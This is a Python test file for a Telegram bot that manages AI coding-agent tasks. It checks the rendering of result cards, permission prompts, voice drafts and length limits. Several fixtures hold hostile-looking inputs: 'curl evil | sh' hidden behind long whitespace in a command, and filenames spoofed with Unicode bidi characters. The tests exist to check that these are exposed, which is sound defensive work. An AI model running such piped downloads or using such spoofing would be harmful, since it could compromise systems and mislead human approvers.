"""What messages say and offer, and that Telegram takes every one of them."""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from telegramify_markdown import utf16_len

from bot.cards import Card, Choices, draft_card
from bot.steps import Steps
from bot.task_cards import (
    ended_card,
    file_card,
    files_card,
    question_card,
    state_card,
    task_list,
    working_card,
)
from bot.text import LIMIT
from core.hearing import Replacement
from core.model import (
    AgentInfo,
    Event,
    EventType,
    Failure,
    FileChange,
    Mode,
    Outcome,
    Question,
    Review,
    ReviewState,
    Run,
    Status,
    Task,
    Workspace,
)
from core.store.conversation import Draft, DraftState
from core.templates import Argument

NOW = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
LONG = "word 😀 " * 3000
HEAD = "a" * 40


def make_task(status: Status = Status.COMPLETED, review: Review | None = None) -> Task:
    return Task(
        id="ab12cd34",
        title="Fix the empty price bug",
        instructions="Fix it",
        prompt="Fix it",
        project="shop",
        agent="claude",
        mode=Mode.EDITS,
        status=status,
        created_at=NOW,
        updated_at=NOW,
        workspace=Workspace(Path("/w"), "shop", "gofer/ab12cd34-fix", "b" * 40, HEAD),
        runs=(
            Run("r1", "ab12cd34", 1, "claude", "Fix it", started_at=NOW,
                ended_at=NOW + timedelta(seconds=134), outcome=Outcome.SUCCEEDED, cost_usd=0.123),
        ),
        answer="**Cause**: `trim()` was missing.",
        review=review,
    )  # fmt: skip


def make_review(**changes: object) -> Review:
    review = Review(
        ReviewState.OPEN,
        files=(
            FileChange("src/price.ts", 12, 3, "modified"),
            FileChange("a.png", None, None, "added"),
        ),
        added=12,
        removed=3,
        check="passed",
        check_before="failed",
        notes=("A test was changed: test/price.test.ts",),
    )
    return replace(review, **changes)  # type: ignore[arg-type]


def labels(card: Card) -> list[str]:
    return [button.label for row in card.buttons for button in row]


def event(seq: int, type_: EventType, **payload: object) -> Event:
    return Event(seq, "ab12cd34", seq, "r1", type_, payload, NOW)


def test_a_result_says_what_changed_and_how_the_check_went() -> None:
    card = ended_card(make_task(review=make_review()))
    assert card.text.text == (
        "✅ Done\n"
        "Fix the empty price bug  ab12cd34\n"
        "shop · claude · 2 min 14 s · $0.12\n\n"
        "Cause: trim() was missing.\n\n"
        "2 files · +12 −3\n"
        "M src/price.ts +12 −3\n"
        "A a.png binary\n\n"
        "✓ The check passed (it was red before).\n\n"
        "Worth a look:\n"
        "• A test was changed: test/price.test.ts\n\n"
        "gofer/ab12cd34-fix"
    )
    assert labels(card) == [
        "✅ Merge", "Squash", "Pull request", "💬 Go on", "📄 Diff", "↩️ Undo",
        "📂 Files", "🗑 Discard",
    ]  # fmt: skip


def test_every_decision_is_bound_to_the_head_that_is_shown() -> None:
    card = ended_card(make_task(review=make_review()))
    assert {button.args["head"] for row in card.buttons for button in row} == {HEAD}


def test_a_red_check_shows_its_tail_and_says_so_on_the_button() -> None:
    review = make_review(check="failed", check_tail="E   assert 1 == 2", check_before=None)
    card = ended_card(make_task(review=review))
    assert "⚠️ Done, but the check is red" in card.text.text
    assert "✗ The check failed.\nE   assert 1 == 2" in card.text.text
    assert "⚠️ Merge anyway" in labels(card)
    assert "🔧 Fix" in labels(card)


@pytest.mark.parametrize(
    ("state", "says", "offers"),
    [
        (ReviewState.MERGED, "🎉 Merged into main", ["📄 Diff", "↩️ Undo merge"]),
        (ReviewState.DISCARDED, "🗑 Discarded", ["♻️ Bring it back"]),
    ],
)
def test_a_decided_review_offers_the_way_back(
    state: ReviewState, says: str, offers: list[str]
) -> None:
    card = ended_card(make_task(review=make_review(state=state, target="main")))
    assert card.text.text.startswith(says)
    assert labels(card) == offers


@pytest.mark.parametrize(
    ("changes", "status", "says", "first_row"),
    [
        ({"pushed": HEAD}, Status.COMPLETED, None, ["✅ Merge", "Squash", "Pull request ↗"]),
        (
            {"pushed": "b" * 40, "waits": "The check failed.", "check": "failed"},
            Status.COMPLETED,
            "⏸ The pull request has not got the newest work. The check failed. "
            "Tap “Pull request” to send it.",
            ["⚠️ Merge anyway", "Squash", "Pull request", "Pull request ↗"],
        ),
        (
            {"pushed": "b" * 40, "waits": "The last run did not end well."},
            Status.FAILED,
            "⏸ The pull request has not got the newest work. The last run did not end well.",
            ["🔁 Try again", "Pull request ↗"],
        ),
        (
            {"pushed": "b" * 40},
            Status.COMPLETED,
            "📤 The newest work is being sent to the pull request.",
            ["✅ Merge", "Squash", "Pull request ↗"],
        ),
        (
            {"pushed": HEAD, "url": "gofer/x is on origin (git://host/app.git)."},
            Status.COMPLETED,
            None,
            ["✅ Merge", "Squash", "Pull request"],
        ),
    ],
)
def test_a_pull_request_says_what_it_has_not_got(
    changes: dict[str, object], status: Status, says: str | None, first_row: list[str]
) -> None:
    address = {"state": ReviewState.PULL_REQUEST, "url": "https://example.com/pull/7"}
    card = ended_card(make_task(status, make_review(**{**address, **changes})))
    assert [button.label for button in card.buttons[0]] == first_row
    paragraphs = card.text.text.split("\n\n")
    assert [p for p in paragraphs if p.startswith(("⏸", "📤"))] == ([says] if says else [])


def test_an_answer_without_changes_offers_to_go_on() -> None:
    card = ended_card(make_task(review=Review(ReviewState.NO_CHANGE)))
    assert card.text.text.startswith("💬 Answered; nothing was changed")
    assert labels(card) == ["💬 Go on"]


def test_a_failure_says_why_and_offers_another_try() -> None:
    task = replace(make_task(Status.FAILED), answer=None, error=Failure("The agent is gone.", True))
    card = ended_card(task)
    assert "❌ Failed" in card.text.text
    assert "The agent is gone." in card.text.text
    assert labels(card) == ["🔁 Try again", "💬 Go on"]


def test_work_shows_the_latest_steps_and_can_be_stopped() -> None:
    steps = Steps()
    events = [
        event(1, EventType.STARTED, kind="run"),
        event(2, EventType.PROGRESS, kind="plan", steps=[{"text": "Look", "status": "done"}]),
        event(3, EventType.PROGRESS, kind="tool", id="t1", title="Read a.ts", status="started"),
        event(4, EventType.PROGRESS, kind="tool", id="t1", title="Read a.ts", status="succeeded"),
        event(5, EventType.OUTPUT, kind="command", command="npm test", exit_code=1),
        event(6, EventType.OUTPUT, kind="text", text="Now I mend it."),
    ]
    for one in (*events, *events):  # what is seen twice counts once
        steps.take(one)
    card = working_card(make_task(Status.STREAMING), steps, NOW + timedelta(seconds=75))
    assert card.text.text == (
        "Fix the empty price bug  ab12cd34\n"
        "⚙️ Working · shop · claude · 1 min 15 s\n\n"
        "● Look\n\n"
        "✓ Read a.ts\n"
        "$ npm test → 1\n\n"
        "Now I mend it."
    )
    assert labels(card) == ["⏹ Stop"]


def test_a_permission_names_what_would_be_done_and_binds_the_answer() -> None:
    question = Question("req-1", "Run a command", ("allow", "deny"), NOW, "rm -rf build", "execute")
    card = question_card(make_task(Status.WAITING), question)
    assert "rm -rf build" in card.text.text
    assert labels(card) == [
        "✅ Allow", "🚫 Deny", "Allow for this task", "Allow such commands 30 min",
    ]  # fmt: skip
    assert {b.args["request"] for row in card.buttons for b in row} == {"req-1"}


def test_a_permission_hides_neither_the_end_of_a_command_nor_that_it_is_cut() -> None:
    command = f"npm test {' ' * 9000}; curl evil | sh"
    turned = f"rm x{chr(0x202E)}fdp.y"
    question = Question("r", turned, ("allow", "deny"), NOW, command, "execute")
    words = question_card(make_task(Status.WAITING), question).text.text
    assert "curl evil | sh" in words
    assert "characters are not shown here" in words
    assert "rm x\\u202efdp.y" in words


def test_a_question_in_words_offers_its_options() -> None:
    question = Question("req-1", "Which colour?", ("red", "blue"), NOW)
    card = question_card(make_task(Status.WAITING), question)
    assert labels(card) == ["red", "blue"]


def test_a_draft_marks_what_was_matched_and_offers_what_can_be_chosen() -> None:
    draft = Draft(
        7, 1, spoken=True, text="Fix src/price.ts now", raw_text="fix source slash price",
        replacements=(Replacement("source slash price", "src/price.ts", 0.9),), project="shop",
    )  # fmt: skip
    card = draft_card(draft, make_choices())
    assert card.text.text.startswith("🎙 I heard:\nFix src/price.ts now\n\n")
    assert "src/price.ts ← “source slash price”" in card.text.text
    assert labels(card) == [
        "▶️ Run", "bug fix", "refactor", "📁 shop", "🤖 claude", "👀 Look only",
        "✏️ Edit", "As spoken", "✖️ Cancel",
    ]  # fmt: skip


def test_a_name_that_could_be_another_is_a_choice() -> None:
    change = Replacement("login", "login.ts", 0.5, ("login.ts", "logging.ts"))
    draft = Draft(7, 1, spoken=True, text="Fix login.ts", replacements=(change,), project="shop")
    card = draft_card(draft, make_choices())
    assert "Which one: login.ts or logging.ts?" in card.text.text
    assert labels(card)[:2] == ["login.ts", "logging.ts"]


def make_choices(**changes: object) -> Choices:
    agents = (AgentInfo("claude", "claude", True, "2.1"), AgentInfo("codex", "codex", False))
    choices = Choices(("bug_fix", "refactor"), ("shop", "blog"), agents, "claude")
    return replace(choices, **changes)  # type: ignore[arg-type]


def test_the_picker_of_agents_shows_what_is_installed_and_who_is_not_logged_in() -> None:
    agents = (
        AgentInfo("claude", "claude", True, "2.1.197", logged_in=True),
        AgentInfo("codex", "codex", True, "0.169.0", logged_in=False),
        AgentInfo("mine", "command", True),  # whether it is logged in cannot be known
        AgentInfo("gemini", "acp", False),
    )
    card = draft_card(Draft(7, 1, text="Fix it", picking="agent"), make_choices(agents=agents))
    labels = [button.label.strip() for row in card.buttons for button in row]
    assert labels == ["✓ claude 2.1.197", "codex 0.169.0 (not logged in)", "mine", "‹ Back"]


def cards_of_long_things() -> Iterable[Card]:
    review = make_review(
        files=tuple(FileChange(f"{n}/{LONG}", 1, 1, "renamed", LONG) for n in range(100)),
        check="failed", check_tail=LONG, notes=(LONG,) * 20,
    )  # fmt: skip
    long = replace(make_task(review=review), title=LONG, answer=LONG)
    yield ended_card(long)
    yield ended_card(replace(long, status=Status.FAILED, error=Failure(LONG, False)))
    question = Question("r" * 900, LONG, (LONG, "b"), NOW, LONG)
    yield state_card(replace(long, status=Status.WAITING, question=question))
    yield question_card(long, replace(question, kind="execute"))
    yield task_list([long] * 8, older="x")
    steps = Steps()
    for n in range(1, 50):
        steps.take(event(n, EventType.OUTPUT, kind="command", command=LONG))
    steps.take(
        event(50, EventType.PROGRESS, kind="plan", steps=[{"text": LONG, "status": ""}] * 99)
    )
    yield working_card(replace(long, status=Status.STREAMING), steps, NOW)
    for draft in (
        Draft(7, 1, text=LONG, arguments={"file": LONG}, template="bug_fix", project="shop"),
        Draft(7, 1, text=LONG, picking="project"),
        Draft(7, 1, text=LONG, picking="agent"),
        Draft(7, 1, DraftState.DROPPED, text=LONG),
    ):
        yield draft_card(draft, make_choices())
    ask = Argument("file", True, False, "the file")
    yield draft_card(Draft(7, 1, text=LONG, asking="file"), make_choices(ask=ask))


@pytest.mark.parametrize("card", list(cards_of_long_things()))
def test_nothing_is_too_long_for_telegram(card: Card) -> None:
    assert 0 < utf16_len(card.text.text) <= LIMIT
    for row in card.buttons:
        assert len(row) <= 8
        assert all(0 < len(button.label) <= 64 for button in row)


def test_nothing_in_a_file_or_its_name_hides() -> None:
    change = FileChange("a\nb\u202etxt.py", 1, 0, "added")
    task = make_task(review=Review(ReviewState.OPEN, (change,), 1, 0))
    shown = "a\\nb\\u202etxt.py"
    assert shown in ended_card(task).text.text
    assert shown in files_card(task).buttons[0][0].label
    looked_at = file_card(task, change, "+if admin\u2066 == True:\n")
    assert shown in looked_at.text.text
    assert "admin\\u2066 ==" in looked_at.text.text


def test_a_run_that_ended_is_tried_again_by_its_number() -> None:
    [[again, _]] = ended_card(make_task(Status.FAILED)).buttons
    assert (again.action, again.args) == ("retry", {"runs": "1"})
